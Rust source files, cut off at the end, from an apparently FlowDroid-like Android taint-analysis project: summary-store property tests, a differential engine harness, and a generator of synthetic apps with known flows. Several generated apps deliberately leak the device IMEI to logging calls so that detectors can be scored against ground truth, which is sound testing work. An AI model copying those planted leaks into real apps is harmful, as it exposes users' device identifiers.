    assert!(a.loaded_from().is_some());
    assert!(matches!(a.lookup("<A: void m()>", 5, &SymFact::Zero), Lookup::Hit(_)));
    assert!(local_store_dir(&dir, "tenant-a").join(STORE_FILE_NAME).is_file());
    assert_ne!(local_store_dir(&dir, "tenant-a"), local_store_dir(&dir, "tenant-b"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn busy_stores_survive_release() {
    let dir = temp_dir("busy");
    let held = open_shared_ns(&dir, "", 3);
    held.record("<B: void n()>", 1, SymFact::Zero, vec![]);
    // A session still holds the Arc: release must keep it registered.
    assert_eq!(release_dir(&dir).unwrap(), 0);
    let again = open_shared_ns(&dir, "", 3);
    assert!(std::sync::Arc::ptr_eq(&held, &again), "same registered store");
    let _ = std::fs::remove_dir_all(&dir);
}
