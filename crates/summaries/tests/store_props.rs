//! Property tests for the summary store: the wire format round-trips
//! arbitrary stores canonically (same value, same bytes), the store
//! contents are independent of insertion order, and *every* truncation
//! or bit-flip of a store file is rejected cleanly — a damaged cache
//! must degrade to a cold one, never decode to wrong summaries.

use flowdroid_summaries::{
    Lookup, SummaryStore, SymAp, SymBase, SymFact, SymField, SymStmt, SymSummary,
};
use proptest::prelude::*;

/// Signature pool; each signature gets a fixed body hash (see
/// [`body_hash_of`]) so repeated inserts merge instead of invalidating.
const SIGS: [&str; 4] =
    ["<A: void a()>", "<B: int b(int)>", "<C: java.lang.String c()>", "<D: void d(A,B)>"];

fn body_hash_of(sig_idx: usize) -> u64 {
    sig_idx as u64 * 31 + 7
}

fn field_strategy() -> impl Strategy<Value = SymField> {
    ("[A-Z][a-z]{0,5}", "[a-z_]{1,6}").prop_map(|(class, name)| SymField { class, name })
}

fn base_strategy() -> impl Strategy<Value = SymBase> {
    prop_oneof![
        (0u32..6).prop_map(SymBase::Local),
        field_strategy().prop_map(SymBase::Static),
    ]
}

fn ap_strategy() -> impl Strategy<Value = SymAp> {
    (base_strategy(), proptest::collection::vec(field_strategy(), 0..4), 0u32..2)
        .prop_map(|(base, fields, t)| SymAp { base, fields, truncated: t == 1 })
}

fn stmt_strategy() -> impl Strategy<Value = SymStmt> {
    ("[a-z]{1,6}", 0u32..20)
        .prop_map(|(m, idx)| SymStmt { method: format!("<X: void {m}()>"), idx })
}

fn fact_strategy() -> impl Strategy<Value = SymFact> {
    prop_oneof![
        Just(SymFact::Zero),
        (ap_strategy(), 0u32..2)
            .prop_map(|(ap, a)| SymFact::Taint { ap, active: a == 1, activation: None }),
        (ap_strategy(), stmt_strategy())
            .prop_map(|(ap, s)| SymFact::Taint { ap, active: false, activation: Some(s) }),
    ]
}

fn summary_strategy() -> impl Strategy<Value = SymSummary> {
    (0u32..30, fact_strategy()).prop_map(|(exit_idx, fact)| SymSummary { exit_idx, fact })
}

/// One insert: signature-pool index, entry fact, exit summaries.
type Item = (usize, SymFact, Vec<SymSummary>);

fn items_strategy() -> impl Strategy<Value = Vec<Item>> {
    proptest::collection::vec(
        (0usize..SIGS.len(), fact_strategy(), proptest::collection::vec(summary_strategy(), 0..3)),
        0..8,
    )
}

fn build(context_hash: u64, items: &[Item]) -> SummaryStore {
    let mut s = SummaryStore::new(context_hash);
    for (i, entry, exits) in items {
        s.insert(SIGS[*i], body_hash_of(*i), entry.clone(), exits.clone());
    }
    s
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Encode → decode is the identity, and re-encoding the decoded
    /// store reproduces the exact same bytes (the format is canonical).
    #[test]
    fn wire_round_trips_canonically(ctx in 0u64..1000, items in items_strategy()) {
        let s = build(ctx, &items);
        let bytes = s.to_bytes();
        let back = SummaryStore::from_bytes(&bytes).unwrap();
        prop_assert_eq!(&back, &s);
        prop_assert_eq!(back.to_bytes(), bytes);
    }

    /// The store (and therefore the file bytes) does not depend on the
    /// order summaries were recorded in — required for stable bytes
    /// under the parallel solver's nondeterministic completion order.
    #[test]
    fn insertion_order_is_immaterial(ctx in 0u64..1000, items in items_strategy()) {
        let forward = build(ctx, &items);
        let mut reversed_items = items.clone();
        reversed_items.reverse();
        let reversed = build(ctx, &reversed_items);
        prop_assert_eq!(forward.to_bytes(), reversed.to_bytes());
    }

    /// Everything inserted is found again under its body hash, is
    /// reported stale under any other hash, and unknown methods miss.
    #[test]
    fn lookup_finds_what_insert_stored(items in items_strategy()) {
        let s = build(1, &items);
        for (i, entry, _) in &items {
            prop_assert!(matches!(
                s.lookup(SIGS[*i], body_hash_of(*i), entry),
                Lookup::Hit(_)
            ));
            prop_assert_eq!(s.lookup(SIGS[*i], u64::MAX, entry), Lookup::Stale);
        }
        prop_assert_eq!(s.lookup("<Z: void zzz()>", 1, &SymFact::Zero), Lookup::Miss);
    }

    /// Every proper prefix of a store file fails to decode.
    #[test]
    fn truncated_files_rejected(items in items_strategy(), cut_seed in 0usize..1_000_000) {
        let bytes = build(1, &items).to_bytes();
        let cut = cut_seed % bytes.len();
        prop_assert!(SummaryStore::from_bytes(&bytes[..cut]).is_err());
    }

    /// Flipping any single bit anywhere in a store file fails the
    /// checksum (or the header checks) — it never decodes.
    #[test]
    fn corrupted_files_rejected(
        items in items_strategy(),
        pos_seed in 0usize..1_000_000,
        bit in 0u8..8,
    ) {
        let bytes = build(1, &items).to_bytes();
        let pos = pos_seed % bytes.len();
        let mut bad = bytes.clone();
        bad[pos] ^= 1 << bit;
        prop_assert!(SummaryStore::from_bytes(&bad).is_err());
    }
}
