#![warn(missing_docs)]

//! The ground-truth harness: a seeded, deterministic generator of
//! synthetic Android-like apps whose taint flows are known by
//! construction, plus a differential runner that sweeps every engine
//! configuration over the generated corpus and fails on any pairwise
//! report divergence or ground-truth drift (ReproDroid-style — "Do
//! Android Taint Analysis Tools Keep Their Promises?").
//!
//! * [`generate`] — the scenario grammar and generator: each
//!   [`TruthApp`] carries its `AndroidManifest.xml`, layouts and `jasm`
//!   code together with a manifest of expected flows, expected-absent
//!   flows and the count a correct engine must report (which documents
//!   the paper's known limitations, e.g. reflection misses);
//! * [`differential`] — the engine matrix (sequential/parallel ×
//!   hash/bitset × direct/interned × eager/lazy × cold/warm caches),
//!   byte-for-byte report agreement, per-category precision/recall
//!   scoring against the manifests via the shared
//!   [`flowdroid_droidbench::ScoreBoard`], and the linked-ICC check
//!   over generated sender/receiver pairs.
//!
//! See DESIGN.md §15 for the grammar, the manifest format and the
//! differential matrix.

pub mod differential;
pub mod generate;

pub use differential::{
    check_icc_linked, run_differential, Differential, EngineOutcome, IccCheck, KLimitProbe,
};
pub use generate::{generate_corpus, CATEGORIES, CONSTRUCTIVE_CATEGORIES, TruthApp};
