//! The differential engine matrix: every engine configuration runs the
//! generated corpus, reports are compared byte-for-byte pairwise, and
//! the reference engine's per-app leak counts are scored against the
//! ground-truth manifests.
//!
//! The matrix covers the axes grown over the repo's history:
//!
//! | engine            | configuration                                  |
//! |-------------------|------------------------------------------------|
//! | `seq-bitset`      | sequential, interned ids, bitset tables (ref)  |
//! | `seq-hash`        | sequential, interned ids, hash-map tables      |
//! | `seq-direct`      | sequential, whole-fact keys (no interning)     |
//! | `par-taint-1`     | work-stealing parallel solver, 1 worker        |
//! | `par-taint-4`     | work-stealing parallel solver, 4 workers       |
//! | `lazy`            | demand-driven frontend (snapshot + lazy SDEX)  |
//! | `lazy-cg-warm`    | lazy + warm daemon-style callgraph cache       |
//! | `cache-cold`      | persistent summary store, populating pass      |
//! | `cache-warm`      | persistent summary store, replaying pass       |
//!
//! (The through-the-daemon leg lives in `solver_stats --mode
//! ground-truth`, which boots an in-process daemon and round-trips the
//! generated `.rpk` archives under the serve path policy.)

use crate::generate::TruthApp;
use flowdroid_android::install_platform;
use flowdroid_bench::{
    corpus_report, run_corpus, run_corpus_cold_warm, run_single_lazy, shared_platform_snapshot,
    CorpusJob, CorpusRun,
};
use flowdroid_core::{icc, CgCache, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_droidbench::{AppScore, ScoreBoard};
use flowdroid_frontend::App;
use flowdroid_ir::Program;
use std::path::Path;

/// One engine's sweep over the corpus.
pub struct EngineOutcome {
    /// Engine name (matrix row).
    pub name: &'static str,
    /// Concatenated name-sorted leak report — the byte-comparison unit.
    pub report: String,
    /// Per-app `(name, leaks)` in name order.
    pub leaks: Vec<(String, usize)>,
}

/// The outcome of the full differential sweep.
pub struct Differential {
    /// Every engine's corpus outcome, reference engine first.
    pub engines: Vec<EngineOutcome>,
    /// `agreement[i][j]` — whether engines `i` and `j` produced
    /// byte-identical corpus reports.
    pub agreement: Vec<Vec<bool>>,
    /// Number of disagreeing engine pairs (`i < j`).
    pub divergent_pairs: usize,
    /// Apps whose reference-engine leak count differs from the
    /// manifest's `expected_reported` (`"name: reported N, expected M"`).
    pub drift: Vec<String>,
    /// Per-category scores of the reference engine against
    /// `expected_flows` (real flows), all apps.
    pub board: ScoreBoard,
    /// Total over the constructive apps only — must be exact.
    pub constructive: AppScore,
    /// The k-limit probe over the `widening` category.
    pub k_limit: KLimitProbe,
}

impl Differential {
    /// True when every engine agreed, no app drifted from its manifest,
    /// and the widening chains demonstrably tripped the k-limit.
    pub fn ok(&self) -> bool {
        self.divergent_pairs == 0
            && self.drift.is_empty()
            && self.constructive.fp == 0
            && self.constructive.fn_ == 0
            && self.k_limit.ok()
    }
}

/// Evidence that the widening apps genuinely stress the access-path
/// bound. Each widening app reads a clean sibling field through the
/// same deeper-than-k chain as the secret: at the default bound the
/// truncated prefix *covers* the sibling and the engine reports it (the
/// paper's k-limiting over-approximation); with the bound raised above
/// the chain depth the false positive disappears and only the real flow
/// remains. A plain run can never observe interner-level widening —
/// propagation truncates before interning — so the probe measures the
/// limit behaviorally instead.
#[derive(Clone, Copy, Debug, Default)]
pub struct KLimitProbe {
    /// Widening apps probed.
    pub apps: usize,
    /// Apps whose default-bound leak count strictly exceeds their
    /// loose-bound count — the k-limit visibly engaged.
    pub tripped: usize,
    /// Apps whose loose-bound leak count equals `expected_flows` —
    /// precision is restored once the bound clears the chain depth.
    pub precise: usize,
}

impl KLimitProbe {
    /// True when every widening app both tripped the default bound and
    /// was exact under the loose one.
    pub fn ok(&self) -> bool {
        self.apps > 0 && self.tripped == self.apps && self.precise == self.apps
    }
}

/// Access-path bound for the probe's loose leg: above the deepest chain
/// the generator emits (9), so nothing truncates.
const LOOSE_AP_BOUND: usize = 16;

fn outcome(name: &'static str, run: &CorpusRun) -> EngineOutcome {
    EngineOutcome {
        name,
        report: corpus_report(run),
        leaks: run.apps.iter().map(|a| (a.name.clone(), a.leaks)).collect(),
    }
}

/// Sweeps every engine configuration over `apps`. `cache_dir` hosts the
/// cold/warm summary store legs (created and torn down by the caller).
pub fn run_differential(apps: &[TruthApp], cache_dir: &Path) -> Differential {
    let jobs: Vec<CorpusJob> = apps.iter().map(|a| a.job()).collect();
    let mut engines = Vec::new();

    let reference = run_corpus(&jobs, &InfoflowConfig::default(), 1);
    engines.push(outcome("seq-bitset", &reference));
    engines.push(outcome(
        "seq-hash",
        &run_corpus(&jobs, &InfoflowConfig::default().with_bitset_tables(false), 1),
    ));
    engines.push(outcome(
        "seq-direct",
        &run_corpus(&jobs, &InfoflowConfig::default().with_fact_interning(false), 1),
    ));
    engines.push(outcome(
        "par-taint-1",
        &run_corpus(&jobs, &InfoflowConfig::default().with_taint_threads(1), 1),
    ));
    engines.push(outcome(
        "par-taint-4",
        &run_corpus(&jobs, &InfoflowConfig::default().with_taint_threads(4), 1),
    ));
    engines.push(outcome(
        "lazy",
        &run_corpus(&jobs, &InfoflowConfig::default().with_lazy_frontend(true), 1),
    ));

    // Lazy + warm callgraph cache: the daemon's repeat-job path. Run
    // each job twice against one cache; keep the warm (replayed) run.
    {
        let cache = CgCache::new(jobs.len().max(1));
        let snapshot = shared_platform_snapshot();
        let config = InfoflowConfig::default().with_lazy_frontend(true);
        let mut warm = Vec::new();
        for job in &jobs {
            let _cold = run_single_lazy(job, &config, snapshot, Some(&cache));
            warm.push(run_single_lazy(job, &config, snapshot, Some(&cache)));
        }
        warm.sort_by(|a, b| a.name.cmp(&b.name));
        let report: String = warm.iter().map(|a| a.report.as_str()).collect();
        engines.push(EngineOutcome {
            name: "lazy-cg-warm",
            report,
            leaks: warm.iter().map(|a| (a.name.clone(), a.leaks)).collect(),
        });
    }

    // Cold/warm persistent summary store.
    let (cold, warm) =
        run_corpus_cold_warm(&jobs, &InfoflowConfig::default(), 1, cache_dir);
    engines.push(outcome("cache-cold", &cold));
    engines.push(outcome("cache-warm", &warm));

    let n = engines.len();
    let mut agreement = vec![vec![true; n]; n];
    let mut divergent_pairs = 0;
    for i in 0..n {
        for j in 0..n {
            let same = engines[i].report == engines[j].report;
            agreement[i][j] = same;
            if i < j && !same {
                divergent_pairs += 1;
            }
        }
    }

    // Score the reference engine against the manifests.
    let mut board = ScoreBoard::new();
    let mut constructive = AppScore::default();
    let mut drift = Vec::new();
    for app in apps {
        let found = engines[0]
            .leaks
            .iter()
            .find(|(n, _)| n == &app.name)
            .map(|(_, l)| *l)
            .unwrap_or(0);
        let score = AppScore::from_counts(app.expected_flows, found);
        board.record(app.category, score);
        if app.constructive {
            constructive.add(score);
        }
        if found != app.expected_reported {
            drift.push(format!(
                "{}: reported {found}, expected {}",
                app.name, app.expected_reported
            ));
        }
    }

    // The k-limit probe: re-run the widening apps with the bound raised
    // above every generated chain depth and compare leak counts.
    let mut k_limit = KLimitProbe::default();
    let widening: Vec<&TruthApp> =
        apps.iter().filter(|a| a.category == "widening").collect();
    if !widening.is_empty() {
        let jobs: Vec<CorpusJob> = widening.iter().map(|a| a.job()).collect();
        let loose = run_corpus(
            &jobs,
            &InfoflowConfig::default().with_access_path_length(LOOSE_AP_BOUND),
            1,
        );
        for app in &widening {
            let at = |run: &CorpusRun| {
                run.apps
                    .iter()
                    .find(|a| a.name == app.name)
                    .map(|a| a.leaks)
                    .unwrap_or(0)
            };
            let (tight, wide) = (at(&reference), at(&loose));
            k_limit.apps += 1;
            if tight > wide {
                k_limit.tripped += 1;
            }
            if wide == app.expected_flows {
                k_limit.precise += 1;
            }
        }
    }

    Differential {
        engines,
        agreement,
        divergent_pairs,
        drift,
        board,
        constructive,
        k_limit,
    }
}

/// The outcome of the linked-ICC check.
pub struct IccCheck {
    /// ICC pair apps checked.
    pub apps: usize,
    /// Per-app mismatches (`"name: linked N, expected M"`).
    pub mismatches: Vec<String>,
}

impl IccCheck {
    /// True when every pair's linked leak count matched its manifest.
    pub fn ok(&self) -> bool {
        self.apps > 0 && self.mismatches.is_empty()
    }
}

/// Runs the two-phase linked ICC analysis (`core::icc`) over every
/// generated sender/receiver pair and compares the linked leak count to
/// the manifest — the positive pair keeps both flows, the negative pair
/// loses the unlinked model's reception false positive.
pub fn check_icc_linked(apps: &[TruthApp]) -> IccCheck {
    let mut checked = 0;
    let mut mismatches = Vec::new();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    for app in apps.iter().filter(|a| a.expected_linked.is_some()) {
        let expected = app.expected_linked.unwrap();
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let layouts: Vec<(&str, &str)> =
            app.layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
        let loaded = App::from_parts(&mut p, &app.manifest, &layouts, &app.code)
            .expect("generated icc app parses");
        let results = icc::analyze_app_linked(
            &mut p, &platform, &loaded, &sources, &wrapper, &config, "truth",
        );
        checked += 1;
        if results.leak_count() != expected {
            mismatches.push(format!(
                "{}: linked {}, expected {expected}",
                app.name,
                results.leak_count()
            ));
        }
    }
    IccCheck { apps: checked, mismatches }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::{generate_corpus, CONSTRUCTIVE_CATEGORIES};

    fn temp_cache(tag: &str) -> std::path::PathBuf {
        std::env::temp_dir().join(format!("flowdroid-truth-{tag}-{}", std::process::id()))
    }

    #[test]
    fn reference_engine_matches_ground_truth() {
        let apps = generate_corpus(1, 1);
        let cache = temp_cache("ref");
        let _ = std::fs::remove_dir_all(&cache);
        let d = run_differential(&apps, &cache);
        let _ = std::fs::remove_dir_all(&cache);
        assert!(d.drift.is_empty(), "ground-truth drift: {:?}", d.drift);
        assert_eq!(d.divergent_pairs, 0, "engines diverged");
        assert_eq!(d.constructive.fp, 0, "constructive false positive");
        assert_eq!(d.constructive.fn_, 0, "constructive miss");
        assert!(d.k_limit.ok(), "widening apps never tripped the k-limit: {:?}", d.k_limit);
        assert!(d.ok());
        // Every constructive category scored exactly 1.0/1.0.
        for (cat, score) in d.board.rows() {
            if CONSTRUCTIVE_CATEGORIES.contains(&cat) {
                assert_eq!((score.fp, score.fn_), (0, 0), "category {cat} drifted");
            }
        }
    }

    #[test]
    fn linked_icc_matches_ground_truth() {
        let apps = generate_corpus(2, 1);
        let check = check_icc_linked(&apps);
        assert!(check.ok(), "icc mismatches: {:?}", check.mismatches);
        assert_eq!(check.apps, 2);
    }
}
