//! The scenario grammar and the seeded app generator.
//!
//! Every generated app is a complete package (manifest, layouts, `jasm`
//! code) plus a ground-truth manifest of three counts:
//!
//! * `expected_flows` — real source→sink flows present by construction;
//! * `expected_absent` — flow *shapes* that are present syntactically
//!   but must NOT be reported (killed by a strong update, or reading a
//!   clean sibling of tainted state);
//! * `expected_reported` — what a correct engine reports. Equal to
//!   `expected_flows` on constructive scenarios; documents the paper's
//!   known limitations elsewhere (reflection is missed, unlinked intent
//!   reception false-positives, k-limit widening over-approximation).
//!
//! Generation is deterministic: the same `(seed, per_category)` always
//! produces byte-identical apps, so app names double as content keys.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::fmt::Write;

/// Scenario categories, in the order the generator emits them.
pub const CATEGORIES: &[&str] = &[
    "alias",
    "callback",
    "dispatch",
    "field",
    "icc",
    "lifecycle",
    "reflection",
    "sanitizer",
    "widening",
];

/// The categories on which a correct engine scores precision = recall
/// = 1.0 — everything except the documented-limitation stressors:
/// reflection is missed by design, the negative ICC pair shows the
/// unlinked reception false positive that only linked mode removes,
/// and the widening chains are deeper than the default access-path
/// bound, so the truncated covering prefix reports a clean sibling
/// field as leaked (the paper's k-limiting trade-off).
pub const CONSTRUCTIVE_CATEGORIES: &[&str] =
    &["alias", "callback", "dispatch", "field", "lifecycle", "sanitizer"];

/// One generated app with its ground-truth manifest.
#[derive(Clone, Debug)]
pub struct TruthApp {
    /// Unique corpus name: `truth/<category>/s<seed>-<index>[…]`.
    /// Doubles as the content key in the prepared-job registry, so the
    /// generator must stay deterministic per name.
    pub name: String,
    /// Scenario category (one of [`CATEGORIES`]).
    pub category: &'static str,
    /// Whether a correct engine scores 1.0/1.0 on this app.
    pub constructive: bool,
    /// Real flows present by construction.
    pub expected_flows: usize,
    /// Syntactic near-flows that must NOT be reported.
    pub expected_absent: usize,
    /// What a correct engine reports (documents known limitations).
    pub expected_reported: usize,
    /// For ICC pairs: the leak count the *linked* two-phase ICC
    /// analysis must report (`core::icc::analyze_app_linked`).
    pub expected_linked: Option<usize>,
    /// `AndroidManifest.xml` text.
    pub manifest: String,
    /// `(layout name, layout XML)` pairs.
    pub layouts: Vec<(String, String)>,
    /// `classes.jasm` source.
    pub code: String,
}

impl TruthApp {
    /// Wraps the app as a corpus job for the bench driver.
    pub fn job(&self) -> flowdroid_bench::CorpusJob {
        flowdroid_bench::external_job(
            self.name.clone(),
            self.manifest.clone(),
            self.layouts.clone(),
            self.code.clone(),
        )
    }

    /// The ground-truth manifest as JSON (embedded in `.rpk` exports as
    /// `truth.json`; the app loader ignores unknown archive entries).
    pub fn truth_json(&self) -> String {
        let linked = match self.expected_linked {
            Some(n) => n.to_string(),
            None => "null".to_string(),
        };
        format!(
            concat!(
                "{{\n",
                "  \"name\": \"{}\",\n",
                "  \"category\": \"{}\",\n",
                "  \"constructive\": {},\n",
                "  \"expected_flows\": {},\n",
                "  \"expected_absent\": {},\n",
                "  \"expected_reported\": {},\n",
                "  \"expected_linked\": {}\n",
                "}}\n"
            ),
            self.name,
            self.category,
            self.constructive,
            self.expected_flows,
            self.expected_absent,
            self.expected_reported,
            linked
        )
    }

    /// Serializes the app as a `.rpk` archive with the ground-truth
    /// manifest riding along as `truth.json`.
    pub fn rpk_bytes(&self) -> Vec<u8> {
        let layouts: Vec<(&str, &str)> =
            self.layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
        let mut archive = flowdroid_frontend::App::bundle(&self.manifest, &layouts, &self.code);
        archive.add("truth.json", self.truth_json().as_bytes());
        archive.to_bytes()
    }
}

/// Generates the whole corpus: `per_category` apps per category (the
/// `icc` category yields a positive *and* a negative pair app per
/// index). Deterministic in `(seed, per_category)`.
pub fn generate_corpus(seed: u64, per_category: usize) -> Vec<TruthApp> {
    let mut out = Vec::new();
    for &category in CATEGORIES {
        for index in 0..per_category {
            let mut rng = rng_for(seed, category, index);
            match category {
                "alias" => out.push(gen_alias(seed, index, &mut rng)),
                "callback" => out.push(gen_callback(seed, index, &mut rng)),
                "dispatch" => out.push(gen_dispatch(seed, index, &mut rng)),
                "field" => out.push(gen_field(seed, index, &mut rng)),
                "icc" => {
                    out.push(gen_icc(seed, index, true));
                    out.push(gen_icc(seed, index, false));
                }
                "lifecycle" => out.push(gen_lifecycle(seed, index, &mut rng)),
                "reflection" => out.push(gen_reflection(seed, index)),
                "sanitizer" => out.push(gen_sanitizer(seed, index, &mut rng)),
                "widening" => out.push(gen_widening(seed, index, &mut rng)),
                other => unreachable!("unknown category {other}"),
            }
        }
    }
    out
}

/// Per-(category, index) RNG: a seed split keyed by the category name
/// so adding a category never reshuffles the others.
fn rng_for(seed: u64, category: &str, index: usize) -> StdRng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in category.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    StdRng::seed_from_u64(seed ^ h ^ (index as u64).wrapping_mul(0x9e37_79b9))
}

fn app_name(category: &str, seed: u64, index: usize) -> String {
    format!("truth/{category}/s{seed}-{index}")
}

fn single_activity_manifest(pkg: &str) -> String {
    format!(
        r#"<manifest package="{pkg}">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#
    )
}

/// Locals + statements acquiring the IMEI into `id` (assumes `this` is
/// a `Context` subclass).
const IMEI_LOCALS: &str = "    let o: java.lang.Object\n    let tm: android.telephony.TelephonyManager\n    let id: java.lang.String\n";
const GET_IMEI: &str = "    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>(\"phone\")\n    tm = (android.telephony.TelephonyManager) o\n    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()\n";

/// One of the `Log` sinks (`_SINK_PARAM_1_` in the default rules).
fn log_sink(rng: &mut StdRng, tag: &str, var: &str) -> String {
    let m = ["i", "d", "e"][rng.gen_range(0..3usize)];
    format!(
        "    staticinvoke <android.util.Log: int {m}(java.lang.String,java.lang.String)>(\"{tag}\", {var})\n"
    )
}

/// A chain of `depth` taint-preserving static helper methods. Returns
/// `(helper class code, locals, call statements, final variable)`;
/// `depth` 0 yields no helper and passes `input` through unchanged.
fn helper_chain(pkg: &str, depth: usize, input: &str) -> (String, String, String, String) {
    if depth == 0 {
        return (String::new(), String::new(), String::new(), input.to_string());
    }
    let mut class = format!("class {pkg}.Help extends java.lang.Object {{\n");
    for i in 0..depth {
        write!(
            class,
            "  static method w{i}(x: java.lang.String) -> java.lang.String {{\n    let r: java.lang.String\n    r = x + \"#\"\n    return r\n  }}\n"
        )
        .unwrap();
    }
    class.push_str("}\n");
    let mut locals = String::new();
    let mut calls = String::new();
    let mut prev = input.to_string();
    for i in 0..depth {
        writeln!(locals, "    let h{i}: java.lang.String").unwrap();
        writeln!(
            calls,
            "    h{i} = staticinvoke <{pkg}.Help: java.lang.String w{i}(java.lang.String)>({prev})"
        )
        .unwrap();
        prev = format!("h{i}");
    }
    (class, locals, calls, prev)
}

/// `field`: tainted data in one field of a data object, clean decoy
/// siblings leaked alongside — the tainted read is the only flow.
fn gen_field(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.fd{index}");
    let decoys = rng.gen_range(1..=3usize);
    let chain = rng.gen_range(0..=2usize);
    let (help, hlocals, hcalls, tainted) = helper_chain(&pkg, chain, "id");

    let mut code = format!(
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    );
    code.push_str(IMEI_LOCALS);
    code.push_str(&hlocals);
    code.push_str("    let d: ");
    code.push_str(&pkg);
    code.push_str(".Data\n    let t: java.lang.String\n    let u: java.lang.String\n");
    code.push_str(GET_IMEI);
    code.push_str(&hcalls);
    writeln!(code, "    d = new {pkg}.Data").unwrap();
    writeln!(code, "    specialinvoke d.<{pkg}.Data: void <init>()>()").unwrap();
    writeln!(code, "    d.secret = {tainted}").unwrap();
    for i in 0..decoys {
        writeln!(code, "    d.pub{i} = \"plain{i}\"").unwrap();
    }
    // The expected-absent flow: a clean sibling field of the same
    // object reaches a sink; field-insensitive tools false-alarm here.
    let decoy = rng.gen_range(0..decoys);
    writeln!(code, "    u = d.pub{decoy}").unwrap();
    code.push_str(&log_sink(rng, "OK", "u"));
    code.push_str("    t = d.secret\n");
    code.push_str(&log_sink(rng, "T", "t"));
    code.push_str("    return\n  }\n}\n");
    write!(code, "class {pkg}.Data extends java.lang.Object {{\n  field secret: java.lang.String\n").unwrap();
    for i in 0..decoys {
        writeln!(code, "  field pub{i}: java.lang.String").unwrap();
    }
    code.push_str("  method <init>() -> void {\n    return\n  }\n}\n");
    code.push_str(&help);

    TruthApp {
        name: app_name("field", seed, index),
        category: "field",
        constructive: true,
        expected_flows: 1,
        expected_absent: 1,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `alias`: the taint is written through one heap alias and read
/// through another (`outer.inner` vs. the local the object was built
/// in), with a clean sibling read through the same alias as the
/// expected-absent flow — the backward alias analysis must connect the
/// two without over-tainting the sibling.
fn gen_alias(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.al{index}");
    let chain = rng.gen_range(0..=2usize);
    let (help, hlocals, hcalls, tainted) = helper_chain(&pkg, chain, "id");

    let mut code = format!(
        "class {pkg}.Outer extends java.lang.Object {{\n  field inner: {pkg}.Inner\n  method <init>() -> void {{\n    return\n  }}\n}}\nclass {pkg}.Inner extends java.lang.Object {{\n  field secret: java.lang.String\n  field pub: java.lang.String\n  method <init>() -> void {{\n    return\n  }}\n}}\n"
    );
    write!(
        code,
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    )
    .unwrap();
    code.push_str(IMEI_LOCALS);
    code.push_str(&hlocals);
    writeln!(code, "    let w: {pkg}.Outer").unwrap();
    writeln!(code, "    let i: {pkg}.Inner").unwrap();
    writeln!(code, "    let j: {pkg}.Inner").unwrap();
    code.push_str("    let t: java.lang.String\n    let u: java.lang.String\n");
    code.push_str(GET_IMEI);
    code.push_str(&hcalls);
    writeln!(code, "    w = new {pkg}.Outer").unwrap();
    writeln!(code, "    specialinvoke w.<{pkg}.Outer: void <init>()>()").unwrap();
    writeln!(code, "    i = new {pkg}.Inner").unwrap();
    writeln!(code, "    specialinvoke i.<{pkg}.Inner: void <init>()>()").unwrap();
    // Alias first, taint after: `w.inner` and `i` must be recognized
    // as the same object for the flow to be found.
    code.push_str("    w.inner = i\n");
    writeln!(code, "    i.secret = {tainted}").unwrap();
    code.push_str("    i.pub = \"plain\"\n");
    code.push_str("    j = w.inner\n");
    code.push_str("    u = j.pub\n");
    code.push_str(&log_sink(rng, "OK", "u"));
    code.push_str("    t = j.secret\n");
    code.push_str(&log_sink(rng, "T", "t"));
    code.push_str("    return\n  }\n}\n");
    code.push_str(&help);

    TruthApp {
        name: app_name("alias", seed, index),
        category: "alias",
        constructive: true,
        expected_flows: 1,
        expected_absent: 1,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `callback`: an XML-declared `onClick` handler leaks the IMEI; the
/// other generated handlers log constants. Exercises layout callback
/// discovery and per-component association.
fn gen_callback(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.cb{index}");
    let buttons = rng.gen_range(1..=3usize);
    let leak_at = rng.gen_range(0..buttons);

    let mut layout = "<LinearLayout xmlns:android=\"http://schemas.android.com/apk/res/android\">\n".to_string();
    for b in 0..buttons {
        writeln!(layout, "  <Button android:id=\"@+id/b{b}\" android:onClick=\"h{b}\"/>").unwrap();
    }
    layout.push_str("</LinearLayout>");

    let mut code = format!(
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)\n    return\n  }}\n"
    );
    for b in 0..buttons {
        writeln!(code, "  method h{b}(v: android.view.View) -> void {{").unwrap();
        if b == leak_at {
            code.push_str(IMEI_LOCALS);
            code.push_str(GET_IMEI);
            code.push_str(&log_sink(rng, "T", "id"));
        } else {
            code.push_str(&log_sink(rng, "OK", "\"idle\""));
        }
        code.push_str("    return\n  }\n");
    }
    code.push_str("}\n");

    TruthApp {
        name: app_name("callback", seed, index),
        category: "callback",
        constructive: true,
        expected_flows: 1,
        expected_absent: 0,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![("main".to_string(), layout)],
        code,
    }
}

/// `lifecycle`: taint parked in a static field by `onCreate` leaks in a
/// later lifecycle callback — only findable with the create→…→stop
/// transition model.
